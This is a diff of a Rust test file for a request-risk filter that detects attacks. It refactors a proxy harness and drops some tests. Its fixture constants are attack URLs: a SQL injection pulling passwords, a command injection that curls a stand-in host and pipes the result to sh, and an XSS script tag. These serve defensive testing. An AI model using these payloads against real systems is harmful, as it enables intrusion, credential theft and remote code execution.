@@ -2,27 +2,29 @@
 
 #![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]
 
+mod bounds;
 mod console;
 mod death;
 mod delivery;
 mod detected;
 mod learn;
 mod privacy;
+mod proxy;
+mod shield;
 mod unseen;
 
+use crate::proxy::{Proxy, TOKEN, known};
 use std::collections::BTreeMap;
 
 use user_risk_filter::clock::Timestamp;
-use user_risk_filter::engine::config::Config;
-use user_risk_filter::engine::effect::{Counter, Effect};
 use user_risk_filter::engine::stream::{Mark, Part, Stream};
-use user_risk_filter::engine::tick::PendingCallout;
 use user_risk_filter::engine::{Engine, Input};
-use user_risk_filter::exchange::proxy::Known;
-use user_risk_filter::exchange::{Head, Headers};
+use user_risk_filter::exchange::head::Head;
 use user_risk_filter::notify::callout::Reply;
-use user_risk_filter::secret::{Secret, Variable};
+use user_risk_filter::plugin::config::Config;
+use user_risk_filter::secret::Variable;
 use user_risk_filter::state::memory::Memory;
+use user_risk_filter::worker::metric::Counter;
 
 const UNION: &str = "/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--";
 const COMMAND: &str = "/run?c=%3Bcurl%20http://x.example/s%7Csh";
@@ -31,103 +33,10 @@ const SCRIPT: &str = "/say?t=%3Cscript%3Ealert(1)%3C/script%3E";
 const TEST: &str = "/?t=user-risk-filter-test";
 const PLAIN: &str = "/search?q=union%20jack";
 
-/// What all environment variables hold.
-const TOKEN: &str = "0123456789abcdef";
-
 const CHANNELS: &str = r#""notify": [
     {"webhook": {"cluster": "receiver", "url": "https://h.example/risk", "secret": "whsec_bGFiLW9ubHktbGFiLW9ubHktbGFiLW9ubHktbGFi"}},
     {"states": ["opened", "updated", "resolved"],
      "slack": {"cluster": "slack", "url": "https://hooks.slack.com/services/T/B/x"}}]"#;
-
-/// A proxy of a few workers on one thread.
-struct Proxy<'a> {
-    workers: Vec<Engine<&'a Memory>>,
-    now: u64,
-    sent: Vec<(String, String)>,
-    bodies: Vec<String>,
-    lines: Vec<serde_json::Value>,
-    counts: BTreeMap<&'static str, u64>,
-    /// By the channel's place: what was counted for it, and the age of its oldest message.
-    counts_for: BTreeMap<(usize, &'static str), u64>,
-    oldest: BTreeMap<usize, u64>,
-    under_way: Vec<(usize, PendingCallout)>,
-}
-
-impl<'a> Proxy<'a> {
-    fn new(cells: &'a Memory, configuration: &str) -> Self {
-        let worker = |seed| {
-            let config = Config::load(configuration.as_bytes(), &|_| Variable::Set(Secret::new(TOKEN))).unwrap().config;
-            Engine::new(config, cells, [seed; 32])
-        };
-        let (sent, bodies, lines, counts) = (Vec::new(), Vec::new(), Vec::new(), BTreeMap::new());
-        let (counts_for, oldest, under_way) = (BTreeMap::new(), BTreeMap::new(), Vec::new());
-        let workers = vec![worker(1), worker(2)];
-        Self { workers, now: 1_000_000, sent, bodies, lines, counts, counts_for, oldest, under_way }
-    }
-
-    fn on(&mut self, worker: usize, input: Input<'_>) {
-        for effect in self.effects(worker, input) {
-            self.take(worker, effect);
-        }
-    }
-
-    fn effects(&self, worker: usize, input: Input<'_>) -> Vec<Effect> {
-        self.workers[worker].on(input, Timestamp::from_millis(self.now))
-    }
-
-    fn take(&mut self, worker: usize, effect: Effect) {
-        match effect {
-            Effect::Log(_, line) => self.lines.push(serde_json::from_str(&line).unwrap()),
-            Effect::Count(counter, number) => *self.counts.entry(counter.name()).or_default() += number,
-            Effect::CountFor(channel, counter, number) => {
-                *self.counts_for.entry((channel, counter.name())).or_default() += number;
-            }
-            Effect::Oldest(channel, seconds) => {
-                self.oldest.insert(channel, seconds);
-            }
-            Effect::Call { pending_callout, cluster, request, .. } => {
-                let id = request.headers.iter().find(|(name, _)| *name == "webhook-id");
-                self.sent.push((cluster, id.map(|(_, id)| id.clone()).unwrap_or_default()));
-                self.bodies.push(String::from_utf8(request.body).unwrap());
-                self.under_way.push((worker, pending_callout));
-            }
-            Effect::StripRequest(_) | Effect::StripAnswer(_) | Effect::Respond { .. } => {}
-        }
-    }
-
-    /// A GET of `target` by `user` on a worker; the points that it got.
-    fn get(&mut self, worker: usize, user: &str, target: &str) -> u64 {
-        let lines = self.lines.len();
-        let mut stream = Stream::default();
-        let head = [(":method", "GET"), (":path", target), (":authority", "shop.example"), ("x-user-id", user)];
-        self.on(worker, Input::Stream(&mut stream, Part::Head(Head::new(head.into_iter().collect()))));
-        for mark in [Mark::Complete, Mark::Answered, Mark::End] {
-            self.on(worker, Input::Stream(&mut stream, Part::Mark(mark, &known())));
-        }
-        let line = self.lines[lines..].iter().find(|line| line["event"] == "malicious_request");
-        line.map_or(0, |line| line["points"].as_u64().unwrap())
-    }
-
-    /// Ticks of both workers, each call answered with `status`.
-    fn deliver(&mut self, status: u16) {
-        for worker in 0..self.workers.len() {
-            self.on(worker, Input::Tick);
-        }
-        while let Some((worker, pending_callout)) = self.under_way.pop() {
-            let reply = Reply::Answer { status, retry_after: None, body: b"ok".to_vec() };
-            self.on(worker, Input::Answered(pending_callout, reply));
-        }
-    }
-
-    fn count(&self, counter: Counter) -> u64 {
-        self.counts.get(counter.name()).copied().unwrap_or_default()
-    }
-}
-
-/// What the proxy knows: the client's address and the status.
-fn known() -> Known {
-    Known::default().with_address("192.0.2.7:4000").answering(200, Headers::default())
-}
 
 fn with(options: &str) -> String {
     format!("{{{options}}}")
@@ -317,63 +226,6 @@ fn a_filter_that_tells_nobody_leaves_what_is_pending_to_one_that_does() {
 }
 
 #[test]
-fn users_who_fell_quiet_make_room_for_those_who_attack() {
-    let cells = Memory::default();
-    let mut proxy = Proxy::new(&cells, r#"{"memory": {"users": 8}}"#);
-    for user in 0..8 {
-        proxy.get(0, &format!("old-{user}"), UNION);
-        proxy.get(0, &format!("old-{user}"), COMMAND);
-        proxy.now += 1000;
-    }
-    assert_eq!(proxy.count(Counter::Opened), 8);
-    proxy.now += 30 * 24 * 60 * 60 * 1000;
-    for attack in [UNION, COMMAND] {
-        for user in ["new-1", "new-2"] {
-            proxy.get(0, user, attack);
-        }
-    }
-    assert_eq!((proxy.count(Counter::Evicted), proxy.count(Counter::Opened)), (0, 10));
-}
-
-/// Cells in which the outbox can't be written.
-struct Dying<'a> {
-    cells: &'a Memory,
-    queues: bool,
-}
-
-impl user_risk_filter::state::Cells for Dying<'_> {
-    fn read(&self, key: &str) -> Result<Option<user_risk_filter::state::Cell>, user_risk_filter::state::Unavailable> {
-        self.cells.read(key)
-    }
-
-    fn swap(
-        &self,
-        key: &str,
-        bytes: &[u8],
-        seen: Option<user_risk_filter::state::Version>,
-    ) -> Result<(), user_risk_filter::state::Refusal> {
-        if self.queues && (key.contains("/parcels/") || key.contains("/queue/")) {
-            return Err(user_risk_filter::state::Refusal::Unavailable);
-        }
-        self.cells.swap(key, bytes, seen)
-    }
-}
-
-#[test]
-fn the_memory_of_a_million_users_is_that_of_a_few() {
-    let cells = Memory::default();
-    let mut proxy = Proxy::new(&cells, r#"{"memory": {"users": 64}}"#);
-    for user in 0..1000 {
-        proxy.get(0, &format!("user-{user}"), UNION);
-    }
-    // The users, one place at which a rule matched, the key, and the marks.
-    assert!(cells.len() <= 64 / 8 + 3, "{} cells", cells.len());
-    assert!(proxy.count(Counter::Evicted) > 900);
-    proxy.now += 1000;
-    assert_eq!(proxy.get(0, "user-999", COMMAND), 8, "a newcomer is always admitted");
-}
-
-#[test]
 fn parts_may_come_in_any_order_or_not_at_all() {
     let cells = Memory::default();
     let mut proxy = Proxy::new(&cells, &with(CHANNELS));
@@ -392,27 +244,6 @@ fn parts_may_come_in_any_order_or_not_at_all() {
 }
 
 #[test]
-fn the_log_is_bounded_and_says_so() {
-    let cells = Memory::default();
-    let mut proxy = Proxy::new(&cells, "{}");
-    for user in 0..50 {
-        proxy.get(0, &user.to_string(), UNION);
-    }
-    assert_eq!((proxy.lines.len(), proxy.count(Counter::Suppressed)), (5, 45));
-    for user in ["1", "2", "3"] {
-        proxy.get(0, user, COMMAND);
-    }
-    let incidents = proxy.lines[5..].iter().all(|line| line["event"] == "incident_opened");
-    assert!(
-        incidents && proxy.lines.len() == 7,
-        "a noisy attack does not hide its incident; ten lines in all with those of the channels"
-    );
-    proxy.now += 1000;
-    proxy.get(0, "later", UNION);
-    assert_eq!(proxy.lines.len(), 8);
-}
-
-#[test]
 fn what_the_operator_says_of_detection_holds_in_the_engine() {
     for (options, points) in [
         ("{}", 8),
@@ -424,5 +255,32 @@ fn what_the_operator_says_of_detection_holds_in_the_engine() {
         let cells = Memory::default();
         let mut proxy = Proxy::new(&cells, &format!(r#"{{"detect": {options}}}"#));
         assert_eq!(proxy.get(0, "alice", UNION), points, "{options}");
+    }
+}
+
+/// Cells in which the outbox can't be written.
+struct Dying<'a> {
+    cells: &'a Memory,
+    queues: bool,
+}
+
+impl user_risk_filter::state::cells::Cells for Dying<'_> {
+    fn read(
+        &self,
+        key: &str,
+    ) -> Result<Option<user_risk_filter::state::cells::Cell>, user_risk_filter::state::cells::Unavailable> {
+        self.cells.read(key)
+    }
+
+    fn swap(
+        &self,
+        key: &str,
+        bytes: &[u8],
+        seen: Option<user_risk_filter::state::cells::Version>,
+    ) -> Result<(), user_risk_filter::state::cells::Refusal> {
+        if self.queues && (key.contains("/parcels/") || key.contains("/queue/")) {
+            return Err(user_risk_filter::state::cells::Refusal::Unavailable);
+        }
+        self.cells.swap(key, bytes, seen)
     }
 }
